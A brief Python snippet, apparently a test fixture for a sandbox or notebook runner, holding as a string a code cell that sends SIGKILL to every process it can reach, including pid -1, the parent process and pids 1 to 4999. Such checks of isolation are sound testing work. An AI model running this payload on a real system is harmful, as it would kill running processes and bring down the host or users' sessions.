"""Sends SIGKILL to every process it can name."""

CELL = r"""
import os, signal
for pid in [-1, os.getppid(), *range(1, 5000)]:
    if pid != 0:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
